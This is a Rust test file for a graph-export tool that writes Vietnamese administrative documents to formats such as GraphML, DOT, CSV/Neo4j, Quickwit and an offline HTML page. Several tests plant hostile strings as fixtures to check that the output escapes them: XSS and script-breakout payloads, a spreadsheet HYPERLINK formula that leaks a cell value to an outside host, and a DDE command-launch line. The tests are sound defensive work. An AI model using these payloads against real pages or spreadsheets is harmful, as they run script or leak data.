//! `cancu export`, each format read back by a real reader: Graphviz `dot`,
//! `xmllint`, and networkx for GraphML, GEXF and node-link JSON.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::util::{seeded, stderr, Dir};

/// Whether a reader is installed; in CI it must be (`.ci/run` installs them).
fn have(cmd: &str, args: &[&str]) -> bool {
    let ok = Command::new(cmd).args(args).output().is_ok_and(|o| o.status.success());
    if !ok {
        assert!(std::env::var_os("CI").is_none(), "{cmd} must be installed in CI");
        eprintln!("{cmd} is not installed: that check is skipped");
    }
    ok
}

fn export(d: &Dir, format: &str, out: &str) {
    let o = d.cancu(&["export", "--format", format, "-o", out]);
    assert!(o.status.success(), "{format}: {}", stderr(&o));
}

/// Nodes and edges as networkx reads them from each format.
fn networkx_counts(dir: &Path) -> Option<Value> {
    if !have("python3", &["-c", "import networkx"]) {
        return None;
    }
    let script = r#"
import json, sys, networkx as nx
d = sys.argv[1]
out = {}
g = nx.read_graphml(d + "/g.graphml"); out["graphml"] = [g.number_of_nodes(), g.number_of_edges()]
g = nx.read_gexf(d + "/g.gexf"); out["gexf"] = [g.number_of_nodes(), g.number_of_edges()]
g = nx.node_link_graph(json.load(open(d + "/g.json")), edges="links"); out["json"] = [g.number_of_nodes(), g.number_of_edges()]
print(json.dumps(out))
"#;
    let o = Command::new("python3")
        .args(["-c", script, dir.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(o.status.success(), "networkx: {}", String::from_utf8_lossy(&o.stderr));
    Some(serde_json::from_slice(&o.stdout).unwrap())
}

fn check_all_formats(d: &Dir) {
    for f in ["dot", "graphml", "gexf", "json", "cytoscape", "mermaid"] {
        export(d, f, &format!("g.{f}"));
    }
    let stats: Value = {
        let o = d.cancu(&["graph", "stats", "--json"]);
        serde_json::from_slice(&o.stdout).unwrap()
    };
    let nodes: u64 = stats["nodes"]
        .as_object()
        .unwrap()
        .values()
        .map(|v| v.as_u64().unwrap())
        .sum();
    let edges: u64 = stats["edges"]
        .as_object()
        .unwrap()
        .values()
        .map(|v| v.as_u64().unwrap())
        .sum();
    if have("dot", &["-V"]) {
        let o = Command::new("dot")
            .args(["-Tsvg", "g.dot"])
            .current_dir(d.path())
            .output()
            .unwrap();
        assert!(o.status.success(), "dot: {}", String::from_utf8_lossy(&o.stderr));
        assert!(String::from_utf8_lossy(&o.stdout).contains("<svg"));
    }
    if have("xmllint", &["--version"]) {
        let o = Command::new("xmllint")
            .args(["--noout", "g.graphml", "g.gexf"])
            .current_dir(d.path())
            .output()
            .unwrap();
        assert!(o.status.success(), "xmllint: {}", String::from_utf8_lossy(&o.stderr));
    }
    if let Some(counts) = networkx_counts(d.path()) {
        for f in ["graphml", "gexf", "json"] {
            assert_eq!(counts[f], serde_json::json!([nodes, edges]), "{f}");
        }
    }
    let cy: Value = serde_json::from_str(&std::fs::read_to_string(d.path().join("g.cytoscape")).unwrap()).unwrap();
    assert_eq!(cy["elements"]["nodes"].as_array().unwrap().len() as u64, nodes);
    assert_eq!(cy["elements"]["edges"].as_array().unwrap().len() as u64, edges);
    let mermaid = std::fs::read_to_string(d.path().join("g.mermaid")).unwrap();
    assert!(mermaid.starts_with("flowchart LR\n"));
    assert_eq!(mermaid.lines().filter(|l| l.contains("-->|")).count() as u64, edges);
    let o = d.cancu(&["export", "--format", "csv", "-o", "neo4j"]);
    assert!(o.status.success());
    let n = std::fs::read_to_string(d.path().join("neo4j/nodes.csv")).unwrap();
    let e = std::fs::read_to_string(d.path().join("neo4j/edges.csv")).unwrap();
    assert!(n.starts_with("id:ID,") && n.lines().next().unwrap().ends_with(",:LABEL"));
    assert!(e.starts_with(":START_ID,:END_ID,:TYPE,"));
    assert!(d.path().join("neo4j/import.cypher").exists());
}

#[test]
fn every_format_reads_back_on_the_seeds() {
    let d = seeded(&[]);
    check_all_formats(&d);
}

#[test]
fn hostile_text_stays_text_in_every_format() {
    let hostile = "CHƯƠNG TRÌNH PHỐI HỢP \"quoted\" <script>alert(1)</script> </b> back\\slash & co\u{1}\n\
Giữa Hội Khuyến học và Hội Nông dân tỉnh Lào Cai giai đoạn 2024-2030\n\n\
Căn cứ Kế hoạch số 12/KH-UBND ngày 5/3/2024 của UBND tỉnh;\n\nI. NỘI DUNG\n";
    let d = seeded(&[("zz_hostile.txt", hostile)]);
    check_all_formats(&d);
    let graphml = std::fs::read_to_string(d.path().join("g.graphml")).unwrap();
    assert!(graphml.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && !graphml.contains("<script>"));
    let dot = std::fs::read_to_string(d.path().join("g.dot")).unwrap();
    assert!(dot.contains(r#"\"quoted\""#) && dot.contains(r"back\\slash"));
}

#[test]
fn filters_and_determinism() {
    let d = seeded(&[]);
    export(&d, "json", "a.json");
    export(&d, "json", "b.json");
    assert_eq!(
        std::fs::read(d.path().join("a.json")).unwrap(),
        std::fs::read(d.path().join("b.json")).unwrap()
    );
    let count = |args: &[&str]| {
        let mut argv = vec!["export", "--format", "json"];
        argv.extend_from_slice(args);
        let o = d.cancu(&argv);
        assert!(o.status.success(), "{}", stderr(&o));
        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
        let docs = v["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|n| n["kind"] == "document")
            .count();
        (v["nodes"].as_array().unwrap().len(), docs)
    };
    let (all, _) = count(&[]);
    // Bến Tre as written, and as today's Vĩnh Long: the two Bến Tre agreements.
    assert_eq!(count(&["--province", "Bến Tre"]).1, 2);
    assert_eq!(count(&["--province", "Vĩnh Long"]).1, 2);
    let (around, docs) = count(&["--around", "31-CT/TU", "--depth", "1"]);
    assert!(around < all);
    assert_eq!(docs, 1);
    let o = d.cancu(&["export", "--format", "png"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("unknown format \"png\""));
}

/// The offline page in headless Chromium: it loads without script errors,
/// shows every node, keeps the library's licence, names no `http` address,
/// and text from documents does not run.
#[test]
fn the_html_page_works_offline_in_a_browser() {
    let payload = "CHƯƠNG TRÌNH PHỐI HỢP </script><script>document.body.dataset.pwned='1'</script><img src=x onerror=\"document.body.dataset.pwned='2'\">\n\
Giữa Hội Khuyến học và Hội Nông dân tỉnh Lào Cai giai đoạn 2024-2030\n\nI. NỘI DUNG\n";
    let d = seeded(&[("zz_hostile.txt", payload)]);
    export(&d, "html", "g.html");
    let page = std::fs::read_to_string(d.path().join("g.html")).unwrap();
    assert!(
        !page.to_ascii_lowercase().contains("http"),
        "an http reference in the page"
    );
    assert!(
        page.contains("The Cytoscape Consortium"),
        "the library's licence is kept"
    );
    assert!(
        !page.contains("<script>document.body"),
        "document text closed a script element"
    );
    let stats: Value = serde_json::from_slice(&d.cancu(&["graph", "stats", "--json"]).stdout).unwrap();
    let nodes: u64 = stats["nodes"]
        .as_object()
        .unwrap()
        .values()
        .map(|v| v.as_u64().unwrap())
        .sum();
    if !have("chromium", &["--version"]) {
        return;
    }
    let url = format!("file://{}", d.path().join("g.html").display());
    let o = crate::util::chromium_dom(&url, 5000, &[]);
    let dom = String::from_utf8_lossy(&o.stdout);
    assert!(
        dom.contains(r#"data-status="ready""#),
        "the page did not finish: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(dom.contains(r#"data-errors="0""#), "script errors on the page");
    assert!(!dom.contains("data-pwned"), "text from a document ran as script");
    assert!(
        dom.contains(&format!(r#"<span id="count">{nodes}</span>"#)),
        "node count"
    );
    let console: Vec<String> = String::from_utf8_lossy(&o.stderr)
        .lines()
        .filter(|l| l.contains(":CONSOLE"))
        .map(str::to_string)
        .collect();
    assert!(console.is_empty(), "console messages: {console:?}");
}

/// The index config read by a YAML parser (PyYAML), as JSON.
fn yaml_as_json(path: &Path) -> Option<Value> {
    if !have("python3", &["-c", "import yaml"]) {
        return None;
    }
    let o = Command::new("python3")
        .args([
            "-c",
            "import json, sys, yaml; print(json.dumps(yaml.safe_load(open(sys.argv[1], encoding='utf-8'))))",
        ])
        .arg(path)
        .output()
        .unwrap();
    assert!(o.status.success(), "YAML: {}", String::from_utf8_lossy(&o.stderr));
    Some(serde_json::from_slice(&o.stdout).unwrap())
}

/// Whether a value fits a Quickwit field type (null: the field is absent).
fn fits(ty: &str, v: &Value) -> bool {
    match ty {
        _ if v.is_null() => !ty.starts_with("array<"),
        "text" => v.is_string(),
        "u64" => v.is_u64(),
        "datetime" => v.as_str().is_some_and(|s| {
            s.len() == 20 && s.ends_with("T00:00:00Z") && s[..10].chars().filter(|c| c.is_ascii_digit()).count() == 8
        }),
        "array<text>" => v.as_array().is_some_and(|a| a.iter().all(Value::is_string)),
        _ => false,
    }
}

/// `cancu export --format quickwit`: one NDJSON line per indexed document
/// with every field the config maps (and no other), of the mapped type; the
/// text normalised and folded; the config parses and uses tokenizers
/// Quickwit has; the same bytes from the index and from the files.
#[test]
fn quickwit_documents_and_config() {
    // Noise the normalisation must take out: NFD, Ð for Đ, ★, Markdown, old tone placement.
    let noisy = "**CHƯƠNG TRÌNH PHỐI HỢP**\nGiữa Hội Khuyến học và Ðoàn TNCS Hồ Chí Minh tỉnh Lào Cai giai đoạn 2024-2030\n\n★ ★ ★\n\n\
Căn cứ Kế hoạch số 12/KH-UBND ngày 5/3/2024 của UBND tỉnh về hoà nhập;\n\n### I. NỘI DUNG\n\nKhuye\u{302}\u{301}n ho\u{323}c, khuyến tài.\n";
    let d = seeded(&[("zz_noisy.txt", noisy)]);
    let o = d.cancu(&["index", "-q"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let o = d.cancu(&["export", "--format", "quickwit", "-o", "qw"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("wrote 6 document(s)"), "{}", stderr(&o));

    // The config: Quickwit's format 0.8, every field once, known types and tokenizers.
    let cfg_path = d.path().join("qw/index-config.yaml");
    let cfg_text = std::fs::read_to_string(&cfg_path).unwrap();
    assert!(cfg_text.contains("\nversion: 0.8\n"), "{cfg_text}");
    let mut types: Vec<(String, String)> = Vec::new();
    if let Some(cfg) = yaml_as_json(&cfg_path) {
        assert_eq!(cfg["version"], serde_json::json!(0.8));
        assert_eq!(cfg["index_id"], "cancu");
        assert_eq!(cfg["doc_mapping"]["mode"], "strict");
        for f in cfg["doc_mapping"]["field_mappings"].as_array().unwrap() {
            let (name, ty) = (f["name"].as_str().unwrap(), f["type"].as_str().unwrap());
            assert!(
                ["text", "array<text>", "u64", "datetime"].contains(&ty),
                "{name}: type {ty}"
            );
            if ty.ends_with("text") {
                let tok = f["tokenizer"].as_str().unwrap();
                assert!(["default", "raw"].contains(&tok), "{name}: tokenizer {tok}");
                if tok == "default" {
                    assert_eq!(f["record"], "position", "{name}: phrase queries need positions");
                }
            }
            assert!(!types.iter().any(|(n, _)| n == name), "{name} mapped twice");
            types.push((name.to_string(), ty.to_string()));
        }
        for f in cfg["search_settings"]["default_search_fields"].as_array().unwrap() {
            assert!(types.iter().any(|(n, _)| f == n.as_str()), "default search field {f}");
        }
    }

    // The documents: one line per indexed document, ordered by path.
    let ndjson = std::fs::read_to_string(d.path().join("qw/documents.ndjson")).unwrap();
    let lines: Vec<Value> = ndjson.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 6);
    assert!(ndjson.ends_with('\n') && !ndjson.contains("\n\n"));
    let paths: Vec<&str> = lines.iter().map(|l| l["path"].as_str().unwrap()).collect();
    let mut sorted = paths.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(paths, sorted);
    let extracted: Vec<Value> = crate::util::ndjson(&d.cancu(&["extract", "--json", "corpus"]));
    for (line, ex) in lines.iter().zip(&extracted) {
        let obj = line.as_object().unwrap();
        if !types.is_empty() {
            let mut keys: Vec<&str> = obj.keys().map(String::as_str).collect();
            let mut names: Vec<&str> = types.iter().map(|(n, _)| n.as_str()).collect();
            keys.sort();
            names.sort();
            assert_eq!(keys, names, "the config maps exactly the fields of a line");
            for (name, ty) in &types {
                assert!(fits(ty, &obj[name]), "{}: {name} = {} is not {ty}", paths[0], obj[name]);
            }
        }
        assert_eq!(line["path"], ex["path"]);
        assert_eq!(line["title"], ex["title"]);
        assert_eq!(line["number"], ex["number"]);
        assert_eq!(line["kind"], ex["kind"]);
        let ids: Vec<&Value> = ex["citations"].as_array().unwrap().iter().map(|c| &c["id"]).collect();
        assert_eq!(line["cites"].as_array().unwrap().iter().collect::<Vec<_>>(), ids);
        let text = line["text"].as_str().unwrap();
        let folded = line["text_folded"].as_str().unwrap();
        use unicode_normalization::UnicodeNormalization;
        assert_eq!(text.nfc().collect::<String>(), text, "normalised text is NFC");
        assert!(!text.contains(['Ð', '★']) && !text.contains("**") && !text.contains("###"));
        for f in [folded, line["title_folded"].as_str().unwrap_or("")] {
            assert!(
                f.chars().all(|c| !c.is_alphabetic() || c.is_ascii_lowercase()),
                "folded text keeps a diacritic or a capital: {f}"
            );
            assert!(
                !f.nfd().any(|c| ('\u{300}'..='\u{36f}').contains(&c)),
                "combining mark in {f}"
            );
        }
        assert_eq!(
            folded.chars().count(),
            text.chars().count(),
            "folding keeps every character"
        );
    }
    let noisy_line = lines.iter().find(|l| l["path"] == "corpus/zz_noisy.txt").unwrap();
    let text = noisy_line["text"].as_str().unwrap();
    assert!(
        text.contains("Khuyến học") && text.contains("Đoàn") && text.contains("hòa nhập"),
        "{text}"
    );
    assert!(noisy_line["text_folded"]
        .as_str()
        .unwrap()
        .contains("khuyen hoc, khuyen tai"));

    // Without an index the files are read and extracted: the same bytes.
    let e = seeded(&[("zz_noisy.txt", noisy)]);
    let o = e.cancu(&["export", "--format", "quickwit", "-o", "qw"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("no index"), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_to_string(e.path().join("qw/documents.ndjson")).unwrap(),
        ndjson
    );
    assert_eq!(
        std::fs::read_to_string(e.path().join("qw/index-config.yaml")).unwrap(),
        cfg_text
    );

    // --province keeps a province's documents (as on the document or today's); --around does not apply.
    let o = d.cancu(&["export", "--format", "quickwit", "-o", "vl", "--province", "Vĩnh Long"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let vl = std::fs::read_to_string(d.path().join("vl/documents.ndjson")).unwrap();
    assert_eq!(vl.lines().count(), 2, "{vl}");
    let o = d.cancu(&["export", "--format", "quickwit", "--around", "11-CT/TW"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("--around"), "{}", stderr(&o));
}

/// The Memgraph script loads both files with Memgraph's `LOAD CSV` syntax,
/// one statement per label and relationship type present.
#[test]
fn memgraph_script() {
    let d = seeded(&[]);
    let o = d.cancu(&["export", "--format", "csv", "-o", "g"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let m = std::fs::read_to_string(d.path().join("g/memgraph.cypher")).unwrap();
    assert!(m.contains("CREATE INDEX ON :Node(id);"));
    for label in ["Document", "Instrument", "Organisation", "Person", "Province"] {
        assert!(
            m.contains(&format!(
                "WITH HEADER NULLIF '' AS row WITH row WHERE row.`:LABEL` = '{label}' CREATE (:Node:{label} {{"
            )),
            "{label}"
        );
    }
    for ty in ["BASED_ON", "IMPLEMENTS", "CITES", "PARTY_TO", "SIGNED", "IN_PROVINCE"] {
        assert!(m.contains(&format!("-[:{ty} {{")), "{ty}");
    }
    assert!(m
        .lines()
        .filter(|l| l.starts_with("LOAD CSV"))
        .all(|l| l.ends_with(';')));
}

#[test]
fn csv_cells_are_never_spreadsheet_formulas() {
    // A news report whose headline and body would run in a spreadsheet.
    let news = "=HYPERLINK(\"http://example.com/?\"&A1,\"bấm\")\n\
Đắc Quang 10:53 - 24/11/2022\n\
+cmd|' /C calc'!A0 Hội Khuyến học tỉnh Tuyên Quang ký kết chương trình phối hợp \
theo Quyết định số 1373/QĐ-TTg ngày 30/7/2021.\n";
    let d = seeded(&[("@formula.txt", news)]);
    let o = d.cancu(&["export", "--format", "csv", "-o", "neo4j"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let nodes = std::fs::read_to_string(d.path().join("neo4j/nodes.csv")).unwrap();
    let edges = std::fs::read_to_string(d.path().join("neo4j/edges.csv")).unwrap();
    // The header rows are Neo4j's, as they were.
    assert_eq!(
        nodes.lines().next().unwrap(),
        "id:ID,kind,label,instrument,province,period,document_kind,date,title,parent,placeholder,:LABEL"
    );
    assert_eq!(
        edges.lines().next().unwrap(),
        ":START_ID,:END_ID,:TYPE,cue,document,span"
    );
    if !have("python3", &["-c", "import csv"]) {
        return;
    }
    // Read back by Python's csv module (RFC 4180), strictly.
    let script = r#"
import csv, json, sys
out = {}
for name in ("nodes", "edges"):
    with open(sys.argv[1] + "/" + name + ".csv", newline="", encoding="utf-8") as f:
        out[name] = list(csv.reader(f, strict=True))
print(json.dumps(out))
"#;
    let o = Command::new("python3")
        .args(["-c", script, d.path().join("neo4j").to_str().unwrap()])
        .output()
        .unwrap();
    assert!(o.status.success(), "csv: {}", String::from_utf8_lossy(&o.stderr));
    let read: Value = serde_json::from_slice(&o.stdout).unwrap();
    for name in ["nodes", "edges"] {
        let rows = read[name].as_array().unwrap();
        let width = rows[0].as_array().unwrap().len();
        for row in rows {
            let row = row.as_array().unwrap();
            assert_eq!(row.len(), width, "{name}: {row:?}");
            for cell in row {
                let cell = cell.as_str().unwrap();
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {cell:?}");
            }
        }
    }
    let title = read["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r[0] == "doc:corpus/@formula.txt")
        .map(|r| r[8].as_str().unwrap().to_string())
        .expect("the document's node");
    assert_eq!(title, "'=HYPERLINK(\"http://example.com/?\"&A1,\"bấm\")");
    // The ids edges name are the ids of nodes.
    let ids: std::collections::BTreeSet<&str> = read["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .skip(1)
        .map(|r| r[0].as_str().unwrap())
        .collect();
    for e in read["edges"].as_array().unwrap().iter().skip(1) {
        assert!(
            ids.contains(e[0].as_str().unwrap()) && ids.contains(e[1].as_str().unwrap()),
            "{e:?}"
        );
    }
}
